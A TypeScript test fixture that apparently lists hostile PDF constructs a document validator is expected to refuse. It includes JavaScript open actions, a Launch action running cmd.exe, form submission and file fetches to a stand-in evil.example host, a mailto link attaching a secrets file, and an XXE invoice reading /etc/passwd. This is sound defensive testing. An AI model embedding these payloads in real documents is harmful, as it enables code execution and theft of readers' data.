import type { Paper } from './pdf-builder.fixture.ts';

/** What a PDF is refused for; each is one sentence for the person. */
export type Verdict =
  | 'action'
  | 'link'
  | 'attachment'
  | 'media'
  | 'outside'
  | 'hidden'
  | 'too large'
  | 'not simple'
  | 'not a PDF'
  | 'unreadable'
  | 'encrypted'
  | 'pages'
  | 'virus'
  | 'too complex';

const annotated = (annotation: string, ...more: Paper['more'] & object): Paper => ({
  page: '/Annots[4 0 R]',
  more: [annotation, ...more],
});
const link = (action: string, ...more: Paper['more'] & object) =>
  annotated(`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>`, ...more);
const address = (text: string) => link(`/S/URI/URI(${text})`);
const annotation = (kind: string, rest = '') => annotated(`<</Type/Annot/Subtype/${kind}/Rect[0 0 9 9]${rest}>>`);
const data = (dictionary: string) => ({ dictionary, data: 'MZ' });

/** What a PDF can do to its reader: each of them in plain, in packed objects and in other letters. */
export const hostile: readonly (readonly [what: string, paper: Paper, verdict: Verdict])[] = [
  ['a script when it opens', { catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }, 'action'],
  [
    'a script behind a reference',
    { catalog: '/OpenAction 4 0 R', more: ['<</S 5 0 R/JS(x)>>', '/JavaScript'] },
    'action',
  ],
  [
    'a script in the tree of names',
    { catalog: '/Names<</JavaScript<</Names[(a)4 0 R]>>>>', more: ['<</S/JavaScript/JS(x)>>'] },
    'action',
  ],
  ['a script that is a stream', link('/S/JavaScript/JS 5 0 R', data('')), 'action'],
  ['a script after a harmless action', link('/S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>'), 'action'],
  ['a script on the page', { page: '/AA<</O<</S/JavaScript/JS(x)>>>>' }, 'action'],
  ['a script on the document', { catalog: '/AA<</WC<</S/JavaScript/JS(x)>>>>' }, 'action'],
  [
    'a script on a field',
    { catalog: '/AcroForm<</Fields[4 0 R]>>', more: ['<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(x)>>>>>>'] },
    'action',
  ],
  [
    'a script in the outline',
    { catalog: '/Outlines 4 0 R', more: ['<</First 5 0 R>>', '<</Title(a)/A<</S/JavaScript/JS(x)>>>>'] },
    'action',
  ],
  ['an XFA form', { catalog: '/AcroForm<</XFA[(template)4 0 R]>>', more: [data('')] }, 'action'],
  ['a program to start', link('/S/Launch/F(cmd.exe)'), 'action'],
  ['a program to start on Windows', { catalog: '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>' }, 'action'],
  ['a form that is sent', annotation('Widget', '/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>'), 'action'],
  ['data that is fetched', link('/S/ImportData/F(\\\\\\\\evil.example\\\\x)'), 'action'],
  ['fields that hide', link('/S/Hide/T(a)'), 'action'],
  ['a form that is emptied', link('/S/ResetForm'), 'action'],
  [
    'layers that a click switches',
    { ...link('/S/SetOCGState/State[/ON 5 0 R]', '<</Type/OCG/Name(a)>>'), catalog: '/OCProperties<</OCGs[5 0 R]>>' },
    'action',
  ],
  ['a page that turns into another', link('/S/Trans/Trans<</S/Wipe>>'), 'action'],
  ['an action that nobody knows', link('/S/Whatever'), 'action'],
  ['an action by name that prints', link('/S/Named/N/Print'), 'action'],
  ['an action by name that opens a file', link('/S/Named/N/Open'), 'action'],
  ['an article of another file', link('/S/Thread/F(\\\\\\\\evil\\\\a.pdf)/D 0'), 'action'],
  [
    'a program for printers',
    { page: '/Resources<</XObject<</X 4 0 R>>>>', more: [data('/Type/XObject/Subtype/PS')] },
    'action',
  ],
  [
    'a form that is a program for printers',
    { more: [data('/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 9 9]')] },
    'action',
  ],
  ['a page of another file', link('/S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]'), 'link'],
  ['a page of a file inside', link('/S/GoToE/T<</R/C/N(a)>>/D[0/Fit]'), 'link'],
  ['a page, with the name of a file', link('/S/GoTo/F(\\\\\\\\evil\\\\a)/D[0/Fit]'), 'link'],
  ['a script as an address', address('javascript:alert(1)'), 'link'],
  ['a script as an address with a space', address(' JaVaScRiPt:alert(1)'), 'link'],
  ['a script as an address with a line end', address('java\\nscript:alert(1)'), 'link'],
  [
    'a script as an address in UTF-16',
    link('/S/URI/URI<feff006a006100760061007300630072006900700074003a0031>'),
    'link',
  ],
  ['a script as an address behind a reference', link('/S/URI/URI 5 0 R', '(javascript:alert(1))'), 'link'],
  ['an address that is no text', link('/S/URI/URI<feffd800dc>'), 'link'],
  ['a script of Visual Basic as an address', address('vbscript:msgbox'), 'link'],
  ['data as an address', address('data:text/html,x'), 'link'],
  ['a file of the machine as an address', address('file:///C:/Windows/System32/calc.exe'), 'link'],
  ['a file of the network as an address', address('\\\\\\\\evil.example\\\\share'), 'link'],
  ['a host without a scheme', address('//evil.example/share'), 'link'],
  ['a program of the machine as an address', address('ms-word:ofe|u|https://evil.example/a.doc'), 'link'],
  ['a mail with an enclosure', address('mailto:a@evil.example?attach=C:/secrets.txt'), 'link'],
  ['a font that is a program', { more: ['<</Type/Font/FontMatrix[1 2 3 4 5 (0\\); alert(1)//)]>>'] }, 'action'],
  ['a place for addresses without a host', { catalog: '/URI<</Base(file:///C:/)>>' }, 'link'],
  ['a file on the page', annotation('FileAttachment', '/FS<</F(a.exe)/EF<</F 5 0 R>>>>'), 'attachment'],
  [
    'a file in the tree of names',
    {
      catalog: '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>',
      more: ['<</F(a.exe)/EF<</F 5 0 R>>>>', data('/Type/EmbeddedFile')],
    },
    'attachment',
  ],
  [
    'a file that belongs to the document',
    { catalog: '/AF[4 0 R]', more: ['<</Type/Filespec/F(a.docm)/EF<</F 5 0 R>>>>', data('')] },
    'attachment',
  ],
  [
    'a file with our name and another content',
    { catalog: '/AF[4 0 R]', more: ['<</F(instantane.json)/EF<</F 5 0 R>>>>', data('')] },
    'attachment',
  ],
  [
    'a file behind one that is allowed',
    {
      catalog: '/AF[4 0 R]',
      more: ['<</F(instantane.json)/EF<</F 5 0 R>>/RF<</F[(a.exe)6 0 R]>>>>', { dictionary: '', data: '{}' }, data('')],
    },
    'attachment',
  ],
  [
    'a file with two names',
    {
      catalog: '/AF[4 0 R]',
      more: ['<</F(a.exe)/UF(instantane.json)/EF<</F 5 0 R>>>>', { dictionary: '', data: '{}' }],
    },
    'attachment',
  ],
  [
    'an invoice that fetches',
    {
      catalog: '/AF[4 0 R]',
      more: [
        '<</F(factur-x.xml)/EF<</F 5 0 R>>>>',
        {
          dictionary: '',
          data: '<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><rsm:CrossIndustryInvoice/>',
        },
      ],
    },
    'attachment',
  ],
  [
    'an invoice that is none behind comments, whose end a careless search looks for without an end',
    {
      catalog: '/AF[4 0 R]',
      more: ['<</F(factur-x.xml)/EF<</F 5 0 R>>>>', { dictionary: '', data: `${'<!---->'.repeat(60)}<h:script/>` }],
    },
    'attachment',
  ],
  [
    'an invoice that is a page',
    {
      catalog: '/AF[4 0 R]',
      more: [
        '<</F(factur-x.xml)/EF<</F 5 0 R>>>>',
        {
          dictionary: '',
          data: '<rsm:CrossIndustryInvoice xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></rsm:CrossIndustryInvoice>',
        },
      ],
    },
    'attachment',
  ],
  ['a collection of files', { catalog: '/Collection<</View/T>>' }, 'attachment'],
  [
    'a scene that acts',
    {
      ...annotation('3D', '/3DD 5 0 R'),
      more: ['<</Type/Annot/Subtype/3D/3DD 5 0 R>>', data('/Type/3D/Subtype/U3D/OnInstantiate 6 0 R'), data('')],
    },
    'action',
  ],
  ['a scene', { ...annotation('3D', '/3DD 5 0 R') }, 'media'],
  ['a scene of another kind', { more: [data('/Type/3D/Subtype/PRC')] }, 'media'],
  ['rich media', annotation('RichMedia', '/RichMediaSettings<<>>'), 'media'],
  ['a film', annotation('Movie', '/Movie<</F(a.avi)>>'), 'media'],
  ['a sound', annotation('Sound', '/Sound 5 0 R'), 'media'],
  ['a screen that plays', annotation('Screen', '/A<</S/Rendition/OP 0>>'), 'media'],
  ['a mark that nobody knows', annotation('Whatever'), 'media'],
  ['a show of slides', { catalog: '/Names<</AlternatePresentations<</Names[(a)<<>>]>>>>' }, 'media'],
  [
    'a stream of another file',
    { page: '/Contents 4 0 R', more: [{ dictionary: '/F(\\\\\\\\evil\\\\a)/FFilter/FlateDecode', data: '' }] },
    'outside',
  ],
  [
    'a stream of another address',
    { page: '/Contents 4 0 R', more: [{ dictionary: '/F<</FS/URL/F(https://evil.example)>>', data: '' }] },
    'outside',
  ],
  [
    'a drawing of another file',
    {
      more: [{ dictionary: '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(\\\\\\\\evil\\\\a)/Page 0>>', data: '' }],
    },
    'outside',
  ],
  ['a file that is only named', { catalog: '/AF[4 0 R]', more: ['<</Type/Filespec/UF<feff005c>>>'] }, 'outside'],
  [
    'colours of another address',
    { catalog: '/OutputIntents[<</S/GTS_PDFX/DestOutputProfileRef<</URLs[]>>>>]' },
    'outside',
  ],
  ['a kind that references hide', link('/S 5 0 R', '5 0 R'), 'hidden'],
  ['an annotation whose kind references hide', annotated('<</Subtype 5 0 R>>', '6 0 R', '5 0 R'), 'hidden'],
  [
    'a picture of 90 billion points',
    { more: [data('/Type/XObject/Subtype/Image/Width 300000/Height 300000/Filter/JBIG2Decode')] },
    'too large',
  ],
  [
    'a photograph of 90 billion points',
    { more: [data('/Type/XObject/Subtype/Image/Width 5 0 R/Height 300000/Filter/JPXDecode'), '300000'] },
    'too large',
  ],
  [
    'a tree of pages that is its own branch',
    { catalog: '/Pages 4 0 R', more: ['<</Type/Pages/Kids[5 0 R]>>', '<</Type/Pages/Kids[4 0 R]>>'] },
    'pages',
  ],
  ['no page', { catalog: '/Pages 4 0 R', more: ['<</Type/Pages/Kids[]/Count 1>>'] }, 'pages'],
  [
    '201 pages that claim to be one',
    {
      catalog: '/Pages 4 0 R',
      more: [
        `<</Type/Pages/Count 1/Kids[${Array.from({ length: 201 }, (_, index) => `${5 + index} 0 R`).join(' ')}]>>`,
        ...Array.from({ length: 201 }, () => '<</Type/Page/Parent 4 0 R>>'),
      ],
    },
    'pages',
  ],
];
